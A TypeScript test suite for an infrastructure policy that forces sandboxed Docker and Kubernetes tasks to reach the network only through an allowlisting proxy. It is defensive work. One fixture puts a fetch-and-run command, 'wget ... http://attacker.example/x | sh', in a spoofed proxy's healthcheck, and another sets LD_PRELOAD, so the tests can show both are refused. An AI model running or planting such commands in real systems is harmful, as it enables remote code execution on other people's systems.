import { describe, expect, it } from "vitest";
import { SandboxProject as DockerProject } from "../../components/docker/sandboxProject";
import { SandboxProject as KubeProject } from "../../components/kubernetes/sandboxProject";
import { requireProxyOnlyEgress } from "../../policy/stack/require-proxy-only-egress";
import type { StackResource } from "../../policy/stack/types";
import { outputValue, type Registered, recordingMocks } from "../helpers/pulumiMocks";
import { argoWorkflow } from "../policy/carrier-kinds";
import { copy, DOCKER, safeContainer } from "../policy/fixtures";
import { type StackFixture, UNKNOWN_WIRE, validateStack } from "../policy/harness";

const RULE = "sandbox-require-proxy-only-egress";
const NETWORK = "docker:index/network:Network";
const NETPOL = "kubernetes:networking.k8s.io/v1:NetworkPolicy";
const JOB = "kubernetes:batch/v1:Job";
const CONFIGMAP = "kubernetes:core/v1:ConfigMap";

const asStack = (rs: readonly Registered[]): StackResource[] =>
  rs
    .filter((r) => r.custom)
    .map((r) => ({
      type: r.type,
      name: r.name,
      urn: r.urn,
      props: r.inputs,
      subject: undefined,
      additionalSecretOutputs: [],
      propertyDependencies: {},
    }));

const check = (fixtures: readonly StackFixture[]) =>
  requireProxyOnlyEgress
    .check(
      fixtures.map((f) => ({
        type: f.type,
        name: f.name,
        urn: `urn:${f.name}`,
        props: f.props,
        subject: undefined,
        additionalSecretOutputs: [],
        propertyDependencies: {},
      })),
      {},
    )
    .map((f) => f.message);

/** A proxy-mode Docker task on `networkMode`. */
function dockerTask(networkMode: string, extra: Record<string, unknown> = {}): StackFixture {
  const p = copy(safeContainer());
  p.networkMode = networkMode;
  p.envs = ["HTTP_PROXY=http://demo-proxy:3128", "HTTPS_PROXY=http://demo-proxy:3128"];
  return { type: DOCKER, name: "task", props: { ...p, ...extra } };
}

const net = (name: string, internal: boolean): StackFixture => ({
  type: NETWORK,
  name,
  props: { name, internal },
});

/** A Docker proxy as the toolkit runs it: the proxy image with its own entry point. */
function dockerProxy(config: string): StackFixture {
  const p = copy(safeContainer());
  p.image = "sandbox-proxy:1";
  delete p.command;
  p.labels = [
    { label: "sandbox.project", value: "demo" },
    { label: "sandbox.role", value: "proxy" },
  ];
  p.envs = [`SANDBOX_PROXY_CONFIG=${config}`];
  // The proxy mounts nothing but memory (a task's job folder would be a file put where code could be loaded from).
  delete p.mounts;
  delete p.volumes;
  return { type: DOCKER, name: "proxy", props: p };
}

const PROXY_LABELS = { "sandbox.egress": "proxy", "sandbox.template": "web", "sandbox.role": "task" };

function job(spec: Record<string, unknown> = {}): StackFixture {
  return {
    type: JOB,
    name: "task-job",
    props: {
      metadata: { name: "t", namespace: "demo" },
      spec: {
        template: {
          metadata: { labels: PROXY_LABELS },
          spec: { containers: [{ name: "task", image: "x:1" }], ...spec },
        },
      },
    },
  };
}

const policy = (name: string, spec: Record<string, unknown>): StackFixture => ({
  type: NETPOL,
  name,
  props: { metadata: { name, namespace: "demo" }, spec },
});
const toProxy = policy("to-proxy", {
  podSelector: { matchLabels: { "sandbox.egress": "proxy" } },
  policyTypes: ["Egress"],
  egress: [{ to: [{ podSelector: { matchLabels: { "sandbox.role": "proxy" } } }], ports: [{ port: 3128 }] }],
});

describe(`${RULE}: the toolkit's own projects`, () => {
  it("passes the Docker project with a proxy-mode template (probe on its own internal network)", async () => {
    const mocks = await recordingMocks();
    const p = new DockerProject("demo", {
      budget: { monthlyCapUsd: 10 },
      templates: {
        web: { image: "x:1", egress: { mode: "proxy", allow: ["pypi.org", "*.github.com"] } },
        closed: { image: "x:1" },
      },
    });
    await outputValue(p.probes);
    const rs = await mocks.settle();
    expect(rs.some((r) => r.name === "demo-proxy-web")).toBe(true);
    expect(requireProxyOnlyEgress.check(asStack(rs), {})).toEqual([]);
  });

  it("passes the Kubernetes project with a proxy-mode template", async () => {
    const mocks = await recordingMocks();
    const p = new KubeProject("demo", {
      budget: { monthlyCapUsd: 100 },
      templates: { web: { image: "x:1", egress: { mode: "proxy", allow: ["pypi.org"] } } },
    });
    await outputValue(p.probeJobs);
    const rs = await mocks.settle();
    expect(rs.some((r) => r.type === CONFIGMAP)).toBe(true);
    expect(requireProxyOnlyEgress.check(asStack(rs), {})).toEqual([]);
  });

  it("passes the Kubernetes project with the proxy and the broker (their own policies let them out)", async () => {
    const mocks = await recordingMocks();
    const p = new KubeProject("demo", {
      budget: { monthlyCapUsd: 100 },
      broker: {
        routes: {
          gh: { upstream: "https://api.example.com", paths: ["/**"], credential: { secret: "gh" } },
        },
      },
      brokerCredentials: { gh: "tok-abcdef-0123456789" },
      templates: {
        web: { image: "x:1", broker: ["gh"], egress: { mode: "proxy", allow: ["pypi.org"] } },
        agent: { image: "x:1", broker: ["gh"] },
      },
    });
    await outputValue(p.probeJobs);
    const rs = await mocks.settle();
    expect(rs.filter((r) => r.type === NETPOL).map((r) => r.name)).toEqual(
      expect.arrayContaining(["demo-proxy-policy", "demo-broker-policy"]),
    );
    expect(requireProxyOnlyEgress.check(asStack(rs), {})).toEqual([]);
  });
});

describe(`${RULE}: Docker tasks with another route out`, () => {
  it.each([
    ["host", 'network "host" has a route out that bypasses the proxy'],
    ["bridge", 'network "bridge" has a route out that bypasses the proxy'],
    ["container:other", 'network "container:other" has a route out that bypasses the proxy'],
  ])("fails networkMode %s", (mode, message) => {
    expect(check([dockerTask(mode)])).toEqual([`proxy-mode task Container "task": ${message}`]);
  });

  it("fails a declared network that is not internal, and passes an internal one", () => {
    expect(check([net("open", false), dockerTask("open")])).toEqual([
      'proxy-mode task Container "task": network "open" is not internal (a route off the machine that bypasses the proxy)',
    ]);
    expect(check([net("closed", true), dockerTask("closed")])).toEqual([]);
  });

  it("fails a declared network that leaves `internal` out or spells it as a string: Docker's default has a route out", () => {
    const message =
      'proxy-mode task Container "task": network "open" is not internal (a route off the machine that bypasses the proxy)';
    expect(check([{ type: NETWORK, name: "open", props: { name: "open" } }, dockerTask("open")])).toEqual([
      message,
    ]);
    expect(
      check([{ type: NETWORK, name: "open", props: { name: "open", internal: "true" } }, dockerTask("open")]),
    ).toEqual([message]);
  });

  it("fails a network the stack does not declare, and a second, open network in networksAdvanced", () => {
    expect(check([dockerTask("elsewhere")])).toEqual([
      'proxy-mode task Container "task": network "elsewhere" is not declared in this stack, so it cannot be shown to be internal',
    ]);
    expect(
      check([
        net("closed", true),
        net("open", false),
        dockerTask("closed", { networksAdvanced: [{ name: "open" }] }),
      ]),
    ).toEqual([
      'proxy-mode task Container "task": network "open" is not internal (a route off the machine that bypasses the proxy)',
    ]);
  });

  it("judges a task by its egress label too, and leaves tasks without the proxy alone", () => {
    const labelled = dockerTask("bridge");
    (labelled.props as { envs: string[] }).envs = [];
    (labelled.props as { labels: unknown[] }).labels.push({ label: "sandbox.egress", value: "proxy" });
    expect(check([labelled])).toHaveLength(1);
    const plain = copy(safeContainer());
    plain.networkMode = "bridge";
    expect(check([{ type: DOCKER, name: "plain", props: plain }])).toEqual([]);
  });
});

describe(`${RULE}: Kubernetes tasks with another route out`, () => {
  const deny = policy("deny", {
    podSelector: {},
    policyTypes: ["Ingress", "Egress"],
    ingress: [],
    egress: [],
  });

  it("passes a proxy-mode pod under default deny plus egress to the proxy's pods only", () => {
    expect(check([deny, toProxy, job()])).toEqual([]);
  });

  it("fails hostNetwork", () => {
    expect(check([deny, toProxy, job({ hostNetwork: true })])).toEqual([
      'proxy-mode task Job "task-job": hostNetwork bypasses the proxy',
    ]);
  });

  it("fails a NetworkPolicy that opens egress, on the policy itself: an ipBlock, a rule without `to`, another namespace", () => {
    const wide = policy("wide", {
      podSelector: { matchLabels: { "sandbox.template": "web" } },
      policyTypes: ["Egress"],
      egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }] }, {}, { to: [{ namespaceSelector: {} }] }],
    });
    const allowed =
      "egress may go only to the proxy's or the broker's pods of the namespace (podSelector sandbox.role=proxy or broker) and to the cluster's DNS on DNS ports (kube-system on 53, dns or dns-tcp; openshift-dns on 53 or 5353; NodeLocal DNSCache 169.254.20.10/32 on 53)";
    const expected = [
      `NetworkPolicy "wide": spec.egress[0] reaches an ipBlock "0.0.0.0/0"; ${allowed}`,
      `NetworkPolicy "wide": spec.egress[1] has no \`to\` (every destination); ${allowed}`,
      `NetworkPolicy "wide": spec.egress[2] reaches a namespaceSelector (pods of other namespaces; only the DNS namespace, kube-system on port 53 or openshift-dns on 53 and 5353, may be named); ${allowed}`,
    ];
    expect(check([deny, toProxy, wide, job()])).toEqual(expected);
    // Whatever pods it selects: none in the input, or the pods the runtime launches later.
    expect(check([deny, wide])).toEqual(expected);
  });

  it("fails a proxy-mode pod that no egress policy selects (everything allowed), ignoring other namespaces' policies", () => {
    const elsewhere = {
      ...deny,
      props: { metadata: { name: "deny", namespace: "other" }, spec: (deny.props as { spec: unknown }).spec },
    };
    expect(check([elsewhere, job()])).toEqual([
      'proxy-mode task Job "task-job": no NetworkPolicy in this stack restricts its egress (everything is allowed)',
    ]);
  });
});

describe(`${RULE}: every pod carrier the adapters know`, () => {
  const deny = policy("deny", { podSelector: {}, policyTypes: ["Egress"], egress: [] });
  const task = { name: "task", image: "x:1" };
  const proxyEnv = { ...task, env: [{ name: "HTTPS_PROXY", value: "http://demo-proxy:3128" }] };

  /** An Argo Workflow in `namespace` whose one pod is labelled for proxy mode. */
  const workflow = (namespace: string, spec: Record<string, unknown> = {}): StackFixture => {
    const wf = argoWorkflow({ containers: [task], ...spec });
    const wfSpec = wf.spec as { templates: Record<string, unknown>[] };
    wfSpec.templates = wfSpec.templates.map((t) =>
      t.name === "main" ? { ...t, metadata: { labels: PROXY_LABELS } } : t,
    );
    return {
      type: "kubernetes:argoproj.io/v1alpha1:Workflow",
      name: "wf",
      props: { ...wf, metadata: { ...(wf.metadata as object), namespace } },
    };
  };

  it("judges the pod an Argo Workflow runs, in the Workflow's namespace", () => {
    expect(check([deny, toProxy, workflow("demo")])).toEqual([]);
    expect(check([deny, toProxy, workflow("other")])).toEqual([
      'proxy-mode task Workflow "wf": no NetworkPolicy in this stack restricts its egress (everything is allowed)',
    ]);
    expect(check([deny, toProxy, workflow("demo", { hostNetwork: true })])).toEqual([
      'proxy-mode task Workflow "wf": hostNetwork bypasses the proxy',
    ]);
  });

  it("judges the pod of a KEDA ScaledJob", () => {
    const scaled: StackFixture = {
      type: "kubernetes:keda.sh/v1alpha1:ScaledJob",
      name: "scaled",
      props: {
        metadata: { name: "scaled", namespace: "demo" },
        spec: {
          jobTargetRef: { template: { metadata: { labels: PROXY_LABELS }, spec: { containers: [task] } } },
          triggers: [],
        },
      },
    };
    expect(check([scaled])).toEqual([
      'proxy-mode task ScaledJob "scaled": no NetworkPolicy in this stack restricts its egress (everything is allowed)',
    ]);
    expect(check([deny, toProxy, scaled])).toEqual([]);
  });

  it("judges a CronJob's pod, in proxy mode by its variables", () => {
    const cron = (container: Record<string, unknown>): StackFixture => ({
      type: "kubernetes:batch/v1:CronJob",
      name: "nightly",
      props: {
        metadata: { name: "nightly", namespace: "demo" },
        spec: {
          schedule: "@daily",
          jobTemplate: {
            spec: {
              template: { metadata: { labels: { app: "nightly" } }, spec: { containers: [container] } },
            },
          },
        },
      },
    });
    expect(check([cron(proxyEnv)])).toEqual([
      'proxy-mode task CronJob "nightly": no NetworkPolicy in this stack restricts its egress (everything is allowed)',
    ]);
    expect(check([cron(task)])).toEqual([]);
    expect(check([deny, toProxy, cron(proxyEnv)])).toEqual([]);
  });

  it("selects by the pod's own labels, not the carrier's", () => {
    const deployment: StackFixture = {
      type: "kubernetes:apps/v1:Deployment",
      name: "web",
      props: {
        metadata: { name: "web", namespace: "demo", labels: { "sandbox.egress": "proxy" } },
        spec: { template: { metadata: { labels: { app: "web" } }, spec: { containers: [proxyEnv] } } },
      },
    };
    expect(check([deny, toProxy, deployment])).toEqual([]);
    const onlyTheCarrier = policy("carrier-only", {
      podSelector: { matchLabels: { "sandbox.egress": "proxy" } },
      policyTypes: ["Egress"],
      egress: [{ to: [{ podSelector: { matchLabels: { "sandbox.role": "proxy" } } }] }],
    });
    expect(check([onlyTheCarrier, deployment])).toEqual([
      'proxy-mode task Deployment "web": no NetworkPolicy in this stack restricts its egress (everything is allowed)',
    ]);
  });

  it("names each pod of a carrier that runs several", () => {
    const ray: StackFixture = {
      type: "kubernetes:ray.io/v1:RayCluster",
      name: "ray",
      props: {
        metadata: { name: "ray", namespace: "demo" },
        spec: {
          headGroupSpec: { template: { metadata: { labels: PROXY_LABELS }, spec: { containers: [task] } } },
          workerGroupSpecs: [
            { template: { metadata: { labels: { app: "w" } }, spec: { containers: [task] } } },
          ],
        },
      },
    };
    expect(check([ray])).toEqual([
      'proxy-mode task RayCluster "ray/spec.headGroupSpec.template": no NetworkPolicy in this stack restricts its egress (everything is allowed)',
    ]);
  });
});

describe(`${RULE}: what cannot be read fails closed; what is not known yet is a note`, () => {
  it("fails a Docker network that cannot be read", () => {
    expect(check([dockerTask("closed", { networkMode: { name: "closed" } })])).toEqual([
      'proxy-mode task Container "task": its network cannot be checked: an object stands where a text belongs; the policy fails closed on it',
    ]);
    expect(
      check([net("closed", true), dockerTask("closed", { networksAdvanced: { name: "closed" } })]),
    ).toEqual([]);
    expect(
      check([net("closed", true), dockerTask("closed", { networksAdvanced: [{ aliases: ["x"] }] })]),
    ).toEqual([
      'proxy-mode task Container "task": networksAdvanced[0] names no network, so it cannot be shown to be internal',
    ]);
  });

  it("notes a Docker network not known until the update", () => {
    const o = validateStack([
      net("closed", true),
      dockerTask("closed", { networksAdvanced: [{ name: UNKNOWN_WIRE }] }),
    ]);
    expect(o.violations).toEqual([]);
    expect(o.notes).toEqual([
      {
        policy: RULE,
        message:
          'not checked because values are not known yet: proxy-mode task Container "task": its network could not be checked: the value is not known until the update [networksAdvanced[0]]',
      },
    ]);
  });

  it("fails a proxy-mode pod whose labels or host networking cannot be read", () => {
    const pod = (metadata: Record<string, unknown>, spec: Record<string, unknown> = {}): StackFixture => ({
      type: "kubernetes:core/v1:Pod",
      name: "p",
      props: {
        metadata: { name: "p", namespace: "demo", ...metadata },
        spec: {
          containers: [
            { name: "task", image: "x:1", env: [{ name: "HTTP_PROXY", value: "http://demo-proxy:3128" }] },
          ],
          ...spec,
        },
      },
    });
    expect(check([pod({ labels: "sandbox.egress=proxy" })])).toEqual([
      'proxy-mode task Pod "p": the pod\'s labels cannot be checked: the text "sandbox.egress=proxy" stands where a map of labels belongs; the policy fails closed on it',
    ]);
    expect(
      check([toProxy, pod({ labels: { "sandbox.egress": "proxy" } }, { hostNetwork: ["yes"] })]),
    ).toEqual([
      'proxy-mode task Pod "p": hostNetwork cannot be checked: a list stands where true or false belongs; the policy fails closed on it',
    ]);
  });
});

describe(`${RULE}: the proxy's allowlist`, () => {
  const good = "acl host_web dstdomain -n pypi.org .github.com\nhttp_access deny all";

  it("passes an explicit list", () => {
    expect(check([dockerProxy(good)])).toEqual([]);
  });

  it.each([
    ["empty", "http_access deny all", "its allowlist is empty"],
    ["*", "acl host_web dstdomain -n *\nhttp_access deny all", 'its allowlist contains "*" (every host)'],
    ["everything", `${good}\nhttp_access allow all`, "it allows every request (`http_access allow all`)"],
  ])("fails an allowlist that is %s (Docker and a ConfigMap)", (_what, config, message) => {
    expect(check([dockerProxy(config)])).toEqual([`proxy Container "proxy": ${message}`]);
    const cm: StackFixture = {
      type: CONFIGMAP,
      name: "proxy-config",
      props: {
        metadata: { name: "p", namespace: "demo", labels: { "sandbox.role": "proxy" } },
        data: { "squid.conf": config },
      },
    };
    expect(check([cm])).toEqual([`proxy ConfigMap "proxy-config": ${message}`]);
  });
});

describe(`${RULE}: only the proxy wears the proxy's label`, () => {
  it("refuses a Docker container labelled as the proxy that runs another image or replaces the entry point", () => {
    const spoof = (extra: Record<string, unknown>): StackFixture => {
      const f = dockerProxy(
        `acl a dstdomain -n pypi.org\nacl refused_dst dst 0.0.0.0/8 10.0.0.0/8 100.64.0.0/10 127.0.0.0/8 169.254.0.0/16 172.16.0.0/12 192.168.0.0/16 ::1 fe80::/10 fc00::/7\nhttp_access deny refused_dst\nhttp_access allow a`,
      );
      return { ...f, props: { ...(f.props as object), ...extra } };
    };
    expect(check([spoof({})])).toEqual([]);
    expect(check([spoof({ image: "busybox:1.36" })])).toEqual([
      'Container "proxy": the container wears sandbox.role=proxy but is not the proxy (it runs image "busybox:1.36", not sandbox-proxy:1); only the proxy itself may wear it',
    ]);
    expect(check([spoof({ command: ["sh", "-c", "true"] })])[0]).toContain(
      "is not the proxy (it replaces the image's entry point (command[0]))",
    );
    // The engine runs a healthcheck command inside the container, with the proxy's open egress: refused; a disabled
    // one (NONE, the image has none and the toolkit sets none) passes. Only the variable the image reads may be set.
    expect(
      check([
        spoof({ healthcheck: { tests: ["CMD-SHELL", "wget -qO- http://attacker.example/x | sh"] } }),
      ])[0],
    ).toContain('is not the proxy (container "proxy" runs a command inside it');
    expect(check([spoof({ healthcheck: { tests: ["NONE"] } })])).toEqual([]);
    expect(
      check([spoof({ uploads: [{ file: "/usr/local/bin/sandbox-proxy", content: "#!/bin/sh" }] })])[0],
    ).toContain("has uploads, which runs a command or puts files inside it");
    const env = (f: StackFixture) =>
      ((f.props as { envs: string[] }).envs ?? []).concat("LD_PRELOAD=/tmp/x.so");
    const base = spoof({});
    expect(check([spoof({ envs: env(base) })])[0]).toContain(
      'sets "LD_PRELOAD"; the proxy\'s image reads only SANDBOX_PROXY_CONFIG',
    );
    expect(
      check([spoof({ mounts: [{ type: "bind", source: "/srv/x", target: "/usr/lib/x" }] })])[0],
    ).toContain("the proxy mounts only its configuration");
    // One in proxy mode on the bridge is also judged as the task it is.
    expect(
      check([spoof({ image: "busybox:1.36", envs: ["HTTPS_PROXY=http://p:3128"], networkMode: "bridge" })]),
    ).toHaveLength(2);
  });
});

describe(`${RULE} in the policy pack`, () => {
  it("is a mandatory stack policy the engine runs at preview", () => {
    const o = validateStack([dockerTask("host")]);
    expect(o.violations).toEqual([
      {
        policy: RULE,
        message: 'proxy-mode task Container "task": network "host" has a route out that bypasses the proxy',
      },
    ]);
  });
});
